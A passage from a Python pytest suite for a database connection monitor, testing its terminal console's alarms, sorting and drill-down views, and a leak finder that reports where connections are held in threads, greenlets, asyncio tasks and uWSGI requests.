    term = terminal("-H", daemon.address, "-i", "0.3", cols=cols,
                    lines=lines)
    term.wait_text("sorted by CONN descending")
    # heat-engine sorts last by CONN, below the bottom at either size ...
    # (its timeouts are seen as recent from the second snapshot on)
    term.wait_for(lambda t: "heat-engine" not in "\n".join(
        t.display[7:-1]) and re.search(
            r"ALARMS 4: heat-engine WAIT 3 TMOUT [\d.]+", alarm_words(t)),
        "heat-engine named first in the alarm line")
    words = alarm_words(term)
    # the header's numbers are whole at any width
    for total in ("Hosts 6/6", "Procs 30/30", "Conn 91/91", "Ckout 12/12 ",
                  "Wait 3/"):
        assert total in words, (total, term.text)
    assert re.search(r"Tmout [\d.]+/s", words), words
    if cols == 80:   # ... and every alarm is named on the first screen
        for alarm in ("DB db1:3306 CONN 91/96 95%", "nova-scheduler "
                      "EXHAUSTED", "nova-conductor LEAK"):
            assert alarm in words, (alarm, term.text)
        # the numbers of the header are whole
        assert re.search(r"Conn 91/91 .*Tmout [\d.]+/s", words), words
    else:
        assert re.search(r"\+[123] more \(a\)", words), words
    # the alarms view lists them all; Enter on one opens its processes
    term.press(b"a")
    term.wait_text("4 alarms:")
    listed = "\n".join(term.display[7:-1])
    for name in ("heat-engine", "db1:3306", "nova-sche", "nova-cond"):
        assert name in listed, (name, term.text)
    term.press(b"\r")
    term.wait_text("heat-engine on ctl3: 1 process")
    term.press(b"\x1b")
    term.wait_text("4 alarms:")
    term.press(b"\x1b")
    # TMOUT/S marked, whatever the sort: End shows the row
    term.press(term.key["kend"])
    term.wait_for(lambda t: "heat-engine" in "\n".join(t.display[7:-1]),
                  "heat-engine at the end")
    if cols == 80:
        row = term.wait_for(lambda t: screen_row(t, "heat-engine"),
                            "the heat-engine row")
        heads, _ = table_on_screen(term)
        fields = dict(zip(heads, term.display[row["y"]].split()))
        assert fields["WAIT"] == "!3" and fields["TMOUT/S"].startswith(
            "!"), fields
    term.press(b"d")   # the databases view: db1 at 95 %, marked
    term.wait_for(lambda t: re.search(r"db1:3306 +all \(mysql\) +!91"
                                      + (r" +!95 " if cols == 80 else ""),
                                      t.text), "db1's CONN (USE%) marked")
    term.press(b"\x1b")
    term.wait_text("sorted by CONN descending")
    term.press(b"w")   # one key: sort by WAIT (the selection follows
    term.wait_text("sorted by WAIT descending")   # its row: Home)
    term.press(term.key["khome"])
    term.wait_for(lambda t: "heat-engine" in t.display[7], "WAIT sort")
    term.press(b"o")
    term.wait_text("sorted by OLDEST descending")
    term.press(term.key["khome"])
    term.wait_for(lambda t: shown_as(t.display[7].split()[1],
                                     "nova-conductor"), "OLDEST sort")


@pytest.mark.parametrize("cols, lines", [(80, 24), (40, 15)])
def test_console_every_list_reachable_by_keys(alarm_daemon, terminal,
                                              cols, lines):
    daemon = alarm_daemon
    truth = daemon.snapshot()["rows"]
    term = terminal("-H", daemon.address, "-i", "0.3", cols=cols,
                    lines=lines)
    term.wait_text("sorted by CONN descending")
    # the table: cut, it says how many more; PgDn and End reach the rest
    term.wait_for(lambda t: t.display[-1].startswith(
        f"[1-{lines - 8} of 19]"), "the footer's 1-N of 19")
    if cols == 80:
        term.wait_text("(1-16 shown, 3 more)")
    seen = set()

    def collect(t: Terminal) -> bool:
        for line in t.display[7:-1]:
            fields = line.split()
            if len(fields) > 2:
                seen.add(fields[1])
        return True

    for _ in range(4):
        term.wait_for(collect, "rows")
        term.press(term.key["knp"])
        time.sleep(0.4)   # (the keys are read between refreshes)
    term.wait_for(collect, "rows")
    for row in truth:
        assert any(shown_as(name, row["progname"]) for name in seen), (
            row["progname"], seen)
    # the drill-down of nova-api: 12 processes, 12 pools, all reachable
    term.press(b"/nova-api\r")
    term.wait_text("[filter: nova-api]")
    term.press(b"\r")
    term.wait_text("nova-api on api1: 12 processes")
    term.wait_text("more lines (Down/j, PgDn, End)")
    document: Dict[int, str] = {}
    frames: List[List[str]] = [[]]

    def read(t: Terminal) -> bool:
        """The drill-down's lines on screen by their place in it (the
        caption says where the screen starts), once the screen has held
        still for a poll (a whole frame drawn)."""
        display = t.display
        if display != frames[-1]:
            frames.append(display)
            return False
        found = re.search(r": 12 processes \((\d+)-", display[5])
        if found is None:
            return False
        lines = display[7:-1]
        if "more lines" in lines[-1]:
            lines = lines[:-1]
        for offset, line in enumerate(lines):
            document[int(found[1]) - 1 + offset] = line
        return True

    term.wait_for(read, "the first page")
    while "more lines (Down/j" in term.text:
        before = term.display[5]
        term.press(term.key["knp"])
        term.wait_for(lambda t: t.display[5] != before and read(t),
                      "the next page")
    term.press(term.key["khome"] + b"j")   # j: one line down
    term.wait_for(lambda t: re.search(r"processes \(2-", t.display[5]),
                  "one line down")
    term.press(term.key["kcud1"])          # Down: one more
    term.wait_for(lambda t: re.search(r"processes \(3-", t.display[5]),
                  "two lines down")
    term.press(term.key["kend"])
    term.wait_for(lambda t: read(t) and "more lines" not in t.text,
                  "the end")
    text = [document[index] for index in sorted(document)]
    assert sorted(document) == list(range(len(document)))   # none skipped
    pools_at = [i for i, line in enumerate(text)
                if "12 pools, with the database of each" in line]
    assert pools_at, text
    processes = [line for line in text[:pools_at[0]]
                 if line.split()[:1] == ["4242"]]
    pools = [line for line in text[pools_at[0]:]
             if line.split()[:1] == ["4242"]]
    assert len(pools) == 12, text
    assert len(processes) == 12, text


# ===========================================================================
# The leak finder
#
# Where in the application connections are held: the checkout line, the
# holder (thread, pooled thread, greenlet, task) and whether it is gone,
# sites ranked by what they hold, bounded memory for code made at run time;
# shown in the console's sites view, drill-down and history, and by --once.
# ===========================================================================


LEAK_APP_SCRIPT = r'''
import json, sys, threading, time
import sqlalchemy as sa

engine = sa.create_engine(sys.argv[1], **json.loads(sys.argv[2]))
leaked = []
held = []

def leak(n):
    for _ in range(n):
        leaked.append(engine.connect())   # LEAK-SITE

def site_a(n):
    for _ in range(n):
        held.append(engine.connect())   # SITE-A

def site_b(n):
    for _ in range(n):
        held.append(engine.connect())   # SITE-B

def sleeper():
    with engine.connect() as conn:   # SLEEPER-SITE
        conn.execute(sa.text("SELECT 1"))
        time.sleep(600)   # SLEEPER-HELD

for line in sys.stdin:
    cmd, *args = line.split()
    n = int(args[0]) if args else 0
    if cmd == "leak":   # from a thread that ends: a true leak
        worker = threading.Thread(target=leak, args=(n,))
        worker.start()
        worker.join()
    elif cmd == "sleeper":
        threading.Thread(target=sleeper, daemon=True).start()
    elif cmd in ("site_a", "site_b"):
        globals()[cmd](n)
    print("ok", flush=True)
'''


class LeakApp(App):
    source = LEAK_APP_SCRIPT


def line_of(marker: str, source: str = LEAK_APP_SCRIPT) -> int:
    (number,) = [i for i, line in enumerate(source.splitlines(), 1)
                 if f"# {marker}" in line]
    return number


@pytest.fixture
def leak_daemon(tmp_path):
    """A daemon whose config tells apps to say where a connection held for
    more than a second is."""
    daemon = Daemon(tmp_path, extra_config="hold_warn_seconds: 1\n")
    yield daemon
    daemon.stop()


def leak_app(tmp_path, daemon: Daemon, url: str = "", **options) -> LeakApp:
    url = url or (f"sqlite:///{tmp_path}/leak.sqlite?plugin=connmon"
                  f"&connmon_service=test&connmon_config={daemon.config}")
    return LeakApp(tmp_path, url, "leaky.py", pool_size=20, **options)


def sites_of(daemon: Daemon, progname: str) -> Dict[str, dict]:
    row = daemon.row(progname)
    return {site["site"]: site for site in row["sites"]} if row else {}


def test_leak_reported_at_its_checkout_line_and_thread_gone(tmp_path,
                                                            leak_daemon):
    app = leak_app(tmp_path, leak_daemon)
    try:
        app("leak 2")
        script = tmp_path / "leaky.py"
        site = f"{script}:{line_of('LEAK-SITE')} in leak"
        found = wait_until(
            lambda: (lambda s: s.get(site) if s.get(site, {}).get(
                "long_holders") else None)(sites_of(leak_daemon, "leaky.py")),
            what=f"the leak reported at {site}")
        assert found["held"] == 2
        assert [h["held_at"] for h in found["long_holders"]] == [
            "thread gone", "thread gone"]
        assert all(h["age"] >= 1 and h["pid"] == app.proc.pid
                   for h in found["long_holders"])
    finally:
        app.stop()


def test_sleeping_holder_reported_at_the_sleeping_line(tmp_path,
                                                       leak_daemon):
    app = leak_app(tmp_path, leak_daemon)
    try:
        app("sleeper")
        script = tmp_path / "leaky.py"
        site = f"{script}:{line_of('SLEEPER-SITE')} in sleeper"
        held_at = f"{script}:{line_of('SLEEPER-HELD')} in sleeper"
        found = wait_until(
            lambda: (lambda s: s.get(site) if s.get(site, {}).get(
                "long_holders") else None)(sites_of(leak_daemon, "leaky.py")),
            what=f"the sleeper reported at {site}")
        assert [h["held_at"] for h in found["long_holders"]] == [held_at]
        (proc,) = leak_daemon.row("leaky.py", procs=True)["procs"]
        (holder,) = proc["long_holders"]
        assert (holder["site"], holder["held_at"]) == (site, held_at)
    finally:
        app.stop()


def test_sites_ranked_by_connections_held(tmp_path, leak_daemon):
    app = leak_app(tmp_path, leak_daemon)
    try:
        app("site_a 3")
        app("site_b 5")
        script = tmp_path / "leaky.py"

        def ranked() -> List[Tuple[str, int]]:
            row = leak_daemon.row("leaky.py")   # None until the app says
            return [(s["site"], s["held"]) for s in row["sites"]] if row \
                else []
        seen = wait_until(ranked, what="sites")
        wait_until(lambda: ranked() == [
            (f"{script}:{line_of('SITE-B')} in site_b", 5),
            (f"{script}:{line_of('SITE-A')} in site_a", 3)],
            what=f"site_b (5) ranked above site_a (3); saw {seen}")
    finally:
        app.stop()


def test_sites_can_be_turned_off(tmp_path, leak_daemon):
    url = (f"sqlite:///{tmp_path}/off.sqlite?plugin=connmon&connmon_sites=0"
           f"&connmon_service=test&connmon_config={leak_daemon.config}")
    app = leak_app(tmp_path, leak_daemon, url)
    try:
        app("site_a 2")
        row = leak_daemon.wait_row("leaky.py", ckout=2)
        assert [(s["site"], s["held"]) for s in row["sites"]] == [(None, 2)]
    finally:
        app.stop()


# Checkouts from code compiled at run time: every function a new code
# object, at a new site.
GENERATED_CODE_SCRIPT = r'''
import sys
import sqlalchemy as sa
import connmon

engine = sa.create_engine(sys.argv[1])
count = int(sys.argv[2])
for i in range(count):
    namespace = {"engine": engine}
    exec(compile(f"def use():\n    engine.connect().close()\n",
                 f"<generated {i}>", "exec"), namespace)
    namespace["use"]()
held = engine.connect()   # at a site past the most kept
print(len(connmon._sites), len(connmon._classified_codes), flush=True)
sys.stdin.readline()
'''


def test_code_compiled_at_run_time_keeps_memory_bounded(daemon, tmp_path):
    """The tables of sites and of code objects stop growing at their
    bounds; checkouts past them are counted, without a site."""
    count = connmon.MAX_CLASSIFIED_CODES + 200
    app = Script(tmp_path, "generated.py", GENERATED_CODE_SCRIPT,
                 f"sqlite:///{tmp_path}/g.sqlite?plugin=connmon"
                 f"&connmon_addr={daemon.address}", str(count))
    try:
        assert app.line() == [str(connmon.MAX_SITES),
                              str(connmon.MAX_CLASSIFIED_CODES)]
        row = daemon.wait_row("generated.py", conn=1, ckout=1,
                              ckout_total=count + 1)
        assert [(s["site"], s["held"]) for s in row["sites"]] == [(None, 1)]
    finally:
        app.stop()


def test_sites_can_be_turned_off_in_the_config(tmp_path):
    daemon = Daemon(tmp_path, extra_config="checkout_sites: 0\n")
    app = leak_app(tmp_path, daemon)
    try:
        app("site_a 2")
        row = daemon.wait_row("leaky.py", ckout=2)
        assert [(s["site"], s["held"]) for s in row["sites"]] == [(None, 2)]
    finally:
        app.stop()
        daemon.stop()


def leak_site(marker: str, function: str) -> str:
    """How the console shows a line of the leak app: its path's tail."""
    return f"leaky.py:{line_of(marker)} in {function}"


def screen_sites(t: Terminal) -> List[Tuple[str, str, str]]:
    """The sites view's rows on screen: (progname, held, site)."""
    return [(fields[1], fields[2], fields[4]) for fields in (
        line.rstrip().split(None, 4) for line in t.display[7:-1])
        if len(fields) == 5 and fields[2].isdigit()]


def test_console_sites_view_ranks_the_holding_lines(tmp_path, leak_daemon,
                                                    terminal):
    app = leak_app(tmp_path, leak_daemon)
    try:
        app("site_a 3")
        app("site_b 5")
        leak_daemon.wait_row("leaky.py", ckout=8)
        term = terminal("-H", leak_daemon.address, "-i", "0.2")
        term.wait_for(lambda t: "leaky.py" in t.rows(), "the leaky.py row")
        want = [("leaky.py", "5", leak_site("SITE-B", "site_b")),
                ("leaky.py", "3", leak_site("SITE-A", "site_a"))]

        def ranked(t: Terminal) -> bool:
            shown = screen_sites(t)
            return [(prog, held) for prog, held, _ in shown] == [
                (prog, held) for prog, held, _ in want] and all(
                site.endswith(tail) for (_, _, site), (_, _, tail)
                in zip(shown, want))
        term.press(b"s")
        term.wait_text("2 checkout sites holding connections, most held "
                       "first")
        term.wait_for(ranked, f"sites ranked {want}")
        # 80 columns: the long paths lose their beginning, not their line.
        term.resize(80, 30)
        term.wait_for(lambda t: ranked(t) and all(
            site.startswith("\N{HORIZONTAL ELLIPSIS}")
            for _, _, site in screen_sites(t)),
            "sites cut from the left")
        term.press(b"?")
        term.wait_text("s            sites: which line of which program")
        term.press(b"x")   # help returns to the sites view
        term.wait_for(ranked, "the sites view again")
        term.press(b"\r")   # the top site's program
        term.wait_text("leaky.py on ")
        term.press(b"\x1b")
        term.wait_for(ranked, "back in the sites view")
        term.press(b"\x1b")
        term.wait_text("1 row, sorted by CONN")   # back in the table
    finally:
        app.stop()


def holder_lines(t: Terminal) -> List[str]:
    """The drill-down's long holder lines, oldest first as on screen (up
    to the blank line above the pools)."""
    lines = list(itertools.dropwhile(
        lambda line: "long holders (held past" not in line, t.display))
    return [line.strip() for line in itertools.takewhile(
        str.strip, lines[2:-1])]


def test_console_drill_down_long_holders_and_history(tmp_path, leak_daemon,
                                                     terminal):
    app = leak_app(tmp_path, leak_daemon)
    try:
        app("sleeper")
        leak_daemon.wait_row("leaky.py", ckout=1)
        term = terminal("-H", leak_daemon.address, "-i", "0.2")
        term.wait_for(lambda t: "leaky.py" in t.rows(), "the leaky.py row")
        term.press(b"\r")
        term.wait_text("leaky.py on ")
        # One connection, out since the app's first seconds (the daemon's
        # history begins before the console): full marks at the scale of 1.
        term.wait_for(lambda t: re.fullmatch(
            "CKOUT +1 \N{LOWER ONE EIGHTH BLOCK}*\N{FULL BLOCK}{3,}",
            history_line(t, "CKOUT")), "a history of ckout 1")
        app("leak 2")
        # Three now: the old samples drop to a third of the scale.
        term.wait_for(lambda t: re.fullmatch(
            "CKOUT +3 \N{LOWER ONE EIGHTH BLOCK}*"
            "\N{LOWER THREE EIGHTHS BLOCK}{3,}"
            "\N{FULL BLOCK}+", history_line(t, "CKOUT")),
            "ckout going from 1 to 3 in the history")
        assert "0 to 3 connections" in term.text
        term.wait_text("3 long holders")
        sleeper_site = leak_site("SLEEPER-SITE", "sleeper")
        sleeping_at = leak_site("SLEEPER-HELD", "sleeper")
        leak = leak_site("LEAK-SITE", "leak")
        term.wait_for(lambda t: len(holder_lines(t)) == 3, "three holders")
        lines = holder_lines(term)
        holders = [line.split(None, 2) for line in lines]
        assert {int(pid) for pid, _, _ in holders} == {app.proc.pid}
        # Each AGE marked: "!" held past the threshold, "*" a sure leak.
        assert [age[0] for _, age, _ in holders] == ["!", "*", "*"], lines
        ages = [float(age[1:]) for _, age, _ in holders]
        assert ages == sorted(ages, reverse=True) and ages[-1] >= 1
        # The sleeper checked out first: the oldest, held where it sleeps.
        # The leak's thread ended without returning its two connections.
        first, *leaks = [rest for _, _, rest in holders]
        assert sleeper_site in first and first.endswith(sleeping_at)
        assert all(leak in rest and rest.endswith("thread gone")
                   for rest in leaks), lines
    finally:
        app.stop()


def test_once_lists_the_sites_under_their_rows(tmp_path, leak_daemon):
    app = leak_app(tmp_path, leak_daemon)
    blind = LeakApp(
        tmp_path, f"sqlite:///{tmp_path}/blind.sqlite?plugin=connmon"
        f"&connmon_sites=0&connmon_service=test"
        f"&connmon_config={leak_daemon.config}", "blind.py", pool_size=20)
    try:
        app("site_a 3")
        app("site_b 5")
        blind("site_a 2")
        leak_daemon.wait_row("leaky.py", ckout=8)
        leak_daemon.wait_row("blind.py", ckout=2)
        result = subprocess.run(
            [sys.executable, "-m", "connmon_console", "--once", "-H",
             leak_daemon.address], cwd=HERE, env=CHILD_ENV,
            capture_output=True, text=True, timeout=30)
        assert result.returncode == 0, result.stderr
        lines = result.stdout.splitlines()
        (blind_at,) = [i for i, line in enumerate(lines)
                       if line.split()[1:2] == ["blind.py"]]
        (leaky_at,) = [i for i, line in enumerate(lines)
                       if line.split()[1:2] == ["leaky.py"]]
        # Sorted by CONN: leaky.py first.  No known site (capture off): no
        # site lines under blind.py (the databases after a blank line).
        assert leaky_at < blind_at and lines[blind_at + 1] == ""
        script = tmp_path / "leaky.py"
        under_leaky = lines[leaky_at + 1:blind_at]
        assert [re.sub(r"oldest +[0-9.]+", "oldest N", line)
                for line in under_leaky] == [
            f"    held    5  oldest N  {script}:{line_of('SITE-B')} in "
            "site_b",
            f"    held    3  oldest N  {script}:{line_of('SITE-A')} in "
            "site_a"]
    finally:
        app.stop()
        blind.stop()


def test_demo_leak_shows_its_site_and_thread_gone(terminal):
    """The README's walkthrough: the demo's leak in the sites view, then
    its long holders in the drill-down."""
    require_module("sqlalchemy")
    source = pathlib.Path(connmon_console.__file__).read_text()
    site = (f"connmon_console.py:{line_of('never closed: the leak', source)}"
            " in leaky_request")
    term = terminal("--demo", "-i", "0.5")
    term.wait_for(lambda t: "keystone-leaky" in t.rows(), "keystone-leaky")
    term.press(b"/keystone-leaky\r")
    term.press(b"s")
    term.wait_for(lambda t: [(prog, s.endswith(site)) for prog, _, s in
                             screen_sites(t)] == [("keystone-leaky", True)],
                  f"the leak at {site}", timeout=30)
    term.press(b"\r")
    term.wait_text("keystone-leaky on ")
    term.wait_for(lambda t: any(site in line and line.endswith(
        "thread gone") for line in holder_lines(t)),
        "a long holder whose thread is gone", timeout=45)


def test_console_history_in_ascii(tmp_path, leak_daemon, terminal):
    """Without a UTF-8 locale the sparklines are drawn in ASCII."""
    app = leak_app(tmp_path, leak_daemon)
    try:
        app("site_a 2")
        leak_daemon.wait_row("leaky.py", ckout=2)
        term = terminal("-H", leak_daemon.address, "-i", "0.2",
                        env={"LC_ALL": "C", "PYTHONCOERCECLOCALE": "0",
                             "PYTHONUTF8": "0"})
        term.wait_for(lambda t: "leaky.py" in t.rows(), "the leaky.py row")
        term.press(b"\r")
        term.wait_for(lambda t: re.fullmatch(
            "CKOUT +2 _*#{3,}", history_line(t, "CKOUT")),
            "an ASCII history of ckout 2")
    finally:
        app.stop()


# Each of these programs sets its holders up, prints "ready" and waits; the
# daemon then tells what each connection held past a second (the
# leak_daemon's hold_warn_seconds) is.  What the console's drill-down, the
# snapshot's long holders and its sites' long holders show is one text.
THREADS_SCRIPT = r"""
import concurrent.futures, json, os, sys, threading, time
import sqlalchemy as sa

engine = sa.create_engine(sys.argv[1], **json.loads(sys.argv[2]))
kept = []

def exited(thread):
    # Wait until a joined thread's OS thread is gone: only then may the C
    # library give its stack, and so its ident, to another thread.
    for _ in range(500):
        if not os.path.exists(f"/proc/self/task/{thread.native_id}"):
            return
        time.sleep(0.01)

def leak_and_end():
    kept.append(engine.connect())   # ENDED-SITE

def query_slowly():
    with engine.connect() as conn:   # SLOW-SITE
        conn.execute(sa.text("SELECT SLEEP(600)"))   # SLOW-HELD

def leak_on_the_pool():
    kept.append(engine.connect())   # POOLED-SITE

def other_work():
    time.sleep(600)   # OTHER-WORK

def leak_before_reuse():
    kept.append(engine.connect())   # REUSED-SITE

def idle(release):
    release.wait()   # IDLE

ended = threading.Thread(target=leak_and_end)
ended.start()
ended.join()
threading.Thread(target=query_slowly, daemon=True).start()
pool = concurrent.futures.ThreadPoolExecutor(1)
pool.submit(leak_on_the_pool).result()
pool.submit(other_work)
gone = threading.Thread(target=leak_before_reuse)
gone.start()
gone.join()
exited(gone)
# A new thread the OS gives the ended one's ident, running other code (the
# threads that get other idents stay, so that their stacks are not the
# ones handed out again).
for _ in range(50):
    reused = threading.Thread(target=idle, args=(threading.Event(),),
                              daemon=True)
    reused.start()
    if reused.ident == gone.ident:
        break
print("ready", reused.ident == gone.ident, flush=True)
time.sleep(600)
"""

GEVENT_SCRIPT = r"""
from gevent import monkey
monkey.patch_all()
import json, sys
import gevent
import sqlalchemy as sa

engine = sa.create_engine(sys.argv[1], **json.loads(sys.argv[2]))
kept = []

def query_slowly():
    with engine.connect() as conn:   # GREEN-SLOW-SITE
        conn.execute(sa.text("SELECT SLEEP(600)"))   # GREEN-SLOW-HELD

def leak_and_end():
    kept.append(engine.connect())   # GREEN-ENDED-SITE

slow = gevent.spawn(query_slowly)
gevent.spawn(leak_and_end).join()
gevent.sleep(0.5)
print("ready", slow.dead, flush=True)
gevent.sleep(600)
"""

EVENTLET_SCRIPT = GEVENT_SCRIPT.replace(
    "from gevent import monkey\nmonkey.patch_all()\n",
    "import eventlet\neventlet.monkey_patch()\n").replace(
    "import gevent\n", "").replace("gevent.", "eventlet.").replace(
    "eventlet.spawn(leak_and_end).join()", "eventlet.spawn(leak_and_end).wait()")

ASYNCIO_SCRIPT = r"""
import asyncio, json, sys
import sqlalchemy as sa
from sqlalchemy.ext.asyncio import create_async_engine

kept = []

async def handler(engine):
    async with engine.connect() as conn:   # TASK-SITE
        await conn.execute(sa.text("SELECT 1"))
        await asyncio.sleep(600)   # TASK-HELD

async def leak_and_end(engine):
    kept.append(await engine.connect())   # TASK-ENDED-SITE

async def main():
    engine = create_async_engine(sys.argv[1], **json.loads(sys.argv[2]))
    holder = asyncio.create_task(handler(engine), name="holder-1")
    await asyncio.create_task(leak_and_end(engine), name="leaker-1")
    await asyncio.sleep(0.5)
    print("ready", holder.done(), flush=True)
    await asyncio.sleep(600)

asyncio.run(main())
"""


class ScriptApp(App):
    """A program that sets itself up, says "ready ..." and waits."""

    def __init__(self, tmp_path, source: str, url: str, progname: str,
                 **options: Any):
        self.source = source
        super().__init__(tmp_path, url, progname, **options)
        ready = readable([self.proc.stdout], 60)
        line = self.proc.stdout.readline() if ready else ""
        if not line.startswith("ready"):
            self.stop()   # a program that never started is not left behind
            raise AssertionError(f"{progname} did not start: {line!r}\n"
                                 f"{self.log.read_text()[-4000:]}")
        self.said = line.split()[1:]


def mariadb_leak_url(daemon: Daemon, driver: str = "pymysql") -> str:
    from sqlalchemy.engine import make_url
    require_database(MYSQL_URL)
    return make_url(MYSQL_URL).set(drivername=f"mysql+{driver}").\
        update_query_dict({"plugin": "connmon", "connmon_service": "test",
                           "connmon_config": str(daemon.config)}).\
        render_as_string(hide_password=False)


def verdicts(daemon: Daemon, app: App, expected: Dict[str, str]
             ) -> Dict[str, str]:
    """Wait until each long holder of ``app`` (by site) reads as
    ``expected``, the same in the process's long holders and in its row's
    sites; return what they read last."""
    seen: Dict[str, str] = {}

    def read() -> bool:
        row = daemon.row(app.progname, procs=True)
        if not row or not row["procs"]:
            return False
        (proc,) = row["procs"]
        seen.clear()
        seen.update((h["site"], h["held_at"]) for h in proc["long_holders"])
        by_site = {site["site"]: sorted(h["held_at"] for h in
                                        site["long_holders"])
                   for site in row["sites"]}
        return seen == expected and by_site == {
            site: [text] for site, text in expected.items()}
    try:
        wait_until(read, 30, "the long holders' verdicts")
    except AssertionError:
        raise AssertionError(f"long holders read {seen}, expected "
                             f"{expected}") from None
    return seen


def place(app: App, marker: str, function: str, source: str) -> str:
    return f"{app.proc.args[1]}:{line_of(marker, source)} in {function}"


def test_leak_finder_in_plain_and_pooled_threads(tmp_path, leak_daemon):
    """A thread that ended: thread gone.  A thread blocked in the driver:
    held at the application's line, not pymysql's.  A pooled thread back
    from the leaking function, running other code: leaked.  A new thread
    with the ended one's ident: thread gone still."""
    app = ScriptApp(tmp_path, THREADS_SCRIPT, mariadb_leak_url(leak_daemon),
                    "threads.py", pool_size=10)
    try:
        assert app.said == ["True"], "the OS did not reuse the ident"
        at = functools.partial(place, app, source=THREADS_SCRIPT)
        verdicts(leak_daemon, app, {
            at("ENDED-SITE", "leak_and_end"): "thread gone",
            at("SLOW-SITE", "query_slowly"): at("SLOW-HELD", "query_slowly"),
            at("POOLED-SITE", "leak_on_the_pool"): "leaked",
            at("REUSED-SITE", "leak_before_reuse"): "thread gone"})
    finally:
        app.stop()


@pytest.mark.parametrize("runtime", ["gevent", "eventlet"])
def test_leak_finder_in_greenlets(tmp_path, leak_daemon, runtime):
    """A greenlet waiting for a slow query is held at its line, however
    long; one that ended without returning its connection is gone."""
    source = GEVENT_SCRIPT if runtime == "gevent" else EVENTLET_SCRIPT
    app = ScriptApp(tmp_path, source, mariadb_leak_url(leak_daemon),
                    f"{runtime}_app.py", pool_size=10)
    try:
        assert app.said == ["False"]   # the slow one lives
        at = functools.partial(place, app, source=source)
        verdicts(leak_daemon, app, {
            at("GREEN-SLOW-SITE", "query_slowly"): at(
                "GREEN-SLOW-HELD", "query_slowly"),
            at("GREEN-ENDED-SITE", "leak_and_end"): "thread gone"})
    finally:
        app.stop()


def test_leak_finder_in_asyncio_tasks(tmp_path, leak_daemon):
    """An asyncio engine's checkout sites are the awaiting coroutines'
    lines; a task holding its connection is held at the line it awaits
    at, a task done without returning it is gone; both name the task."""
    app = ScriptApp(tmp_path, ASYNCIO_SCRIPT,
                    mariadb_leak_url(leak_daemon, "aiomysql"), "tasks.py",
                    pool_size=10)
    try:
        assert app.said == ["False"]
        at = functools.partial(place, app, source=ASYNCIO_SCRIPT)
        verdicts(leak_daemon, app, {
            at("TASK-SITE", "handler"):
                at("TASK-HELD", "handler") + " (task holder-1)",
            at("TASK-ENDED-SITE", "leak_and_end"):
                "thread gone (task leaker-1)"})
    finally:
        app.stop()


def test_leak_finder_keeps_no_ended_holder_alive(daemon):
    """A task that checked a connection out, returned it and ended is
    collected with what it returned while its connection waits in the
    pool: the leak finder knows holders weakly.  A task that ended
    holding its connection is still "thread gone (task NAME)" once
    collected."""
    import asyncio
    from sqlalchemy.ext.asyncio import create_async_engine
    require_database(MYSQL_URL)
    engine = create_async_engine(
        monitored(MYSQL_URL.replace("+pymysql", "+aiomysql"), daemon,
                  "plugin"), pool_size=2)

    class Answer:   # what a handler returns (the objects may be big)
        pass

    async def handler() -> Answer:
        async with engine.connect() as conn:
            await conn.exec_driver_sql("SELECT 1")
        return Answer()

    async def main() -> List[bool]:
        task = asyncio.create_task(handler())
        refs = [weakref.ref(task), weakref.ref(await task)]
        del task
        await asyncio.sleep(0)   # the loop lets go of the task's wake-up
        gc.collect()
        alive = [ref() is not None for ref in refs]
        await engine.dispose()
        return alive

    assert asyncio.run(main()) == [False, False]


# A uWSGI application of request threads: GET /hold holds a connection at
# a line for as long as its request runs; GET /leak keeps one past the
# request, on the thread that then waits, in uWSGI's C code, for the next.
UWSGI_LEAK_APP = r'''
import time
import sqlalchemy as sa

engine = sa.create_engine({url!r}, pool_size=5, max_overflow=0)
kept = []

def hold():
    with engine.connect() as conn:   # UWSGI-HOLD-SITE
        conn.execute(sa.text("SELECT 1"))
        time.sleep(600)   # UWSGI-HELD

def leak():
    kept.append(engine.connect())   # UWSGI-LEAK-SITE

def application(environ, start_response):
    {{"/hold": hold, "/leak": leak}}[environ["PATH_INFO"]]()
    start_response("200 OK", [("Content-Length", "1")])
    return [b"1"]
'''


def test_leak_finder_in_uwsgi_request_threads(tmp_path, leak_daemon):
    """Held by live uWSGI request threads (threads Python did not make),
    connections read as held at the line that holds them, and one kept
    past its request as leaked: none as "thread gone"."""
    require_database(MYSQL_URL)
    source = UWSGI_LEAK_APP.format(url=mariadb_leak_url(leak_daemon))
    app = tmp_path / "uwsgi_leak_app.py"
    app.write_text(source)
    port = free_port()
    server = Server(tmp_path, [
        "uwsgi", "--http-socket", f"127.0.0.1:{port}", "--master",
        "--processes", "1", "--threads", "4", "--wsgi-file", str(app),
        "--die-on-term", "--disable-logging"], port)

    def ask(path: str) -> None:
        try:
            server.get(path)
        except OSError:   # /hold answers in ten minutes
            pass
    holding = [threading.Thread(target=ask, args=(path,), daemon=True)
               for path in ("/hold", "/hold", "/leak")]
    try:
        wait_until(lambda: server.get("/leak"), 30, "uWSGI to answer")
        for thread in holding:
            thread.start()
        at = functools.partial(line_of, source=source)
        held = f"{app}:{at('UWSGI-HELD')} in hold"
        expected = sorted(
            [(f"{app}:{at('UWSGI-HOLD-SITE')} in hold", held)] * 2
            + [(f"{app}:{at('UWSGI-LEAK-SITE')} in leak", "leaked")] * 2)
        seen: List[tuple] = []

        def read() -> bool:
            row = leak_daemon.row("uwsgi", procs=True) or {"procs": []}
            seen[:] = sorted((h["site"], h["held_at"]) for proc in row["procs"]
                             for h in proc["long_holders"])
            return seen == expected
        try:
            wait_until(read, 30, "the long holders' verdicts")
        except AssertionError:
            raise AssertionError(f"long holders read {seen}, expected "
                                 f"{expected}\n{server.log_tail()}") from None
    finally:
        server.stop()


# A connection is held while an application frame of its checkout (the
# site or one of its application callers) is still on its holder's stack;
# leaked when none is.  Every holder below holds before its program says
# "ready".

# What web frameworks do with a request's Session: the view opens it, the
# middleware closes it after the view returned (or forgets to).
VIEW_CODE = r"""
class Request:
    "What a web framework hands its views."

def view(request):
    request.session = Session()
    request.session.execute(sa.text("SELECT 1"))   # VIEW-SITE

def middleware(request, forget):
    view(request)
    began.release()
    if forget:
        kept.append(request)   # the Session with it: never closed
        return
    time.sleep(600)   # MIDDLEWARE-HELD
    request.session.close()
"""

ORM_SCRIPT = r"""
import concurrent.futures, json, sys, threading, time
import sqlalchemy as sa
from sqlalchemy import orm
from oslo_db.sqlalchemy import enginefacade

engine = sa.create_engine(sys.argv[1], **json.loads(sys.argv[2]))
Session = orm.sessionmaker(engine)
facade = enginefacade.transaction_context()
facade.configure(connection=sys.argv[1], max_pool_size=10)
kept = []
began = threading.Semaphore(0)   # each holder says when it holds

@enginefacade.transaction_context_provider
class Context:
    "A request context: enginefacade keeps its session on it."

def lookup(session):
    return session.execute(sa.text("SELECT 1")).scalar()   # ORM-SITE

def orm_request():
    with Session() as session, session.begin():
        lookup(session)
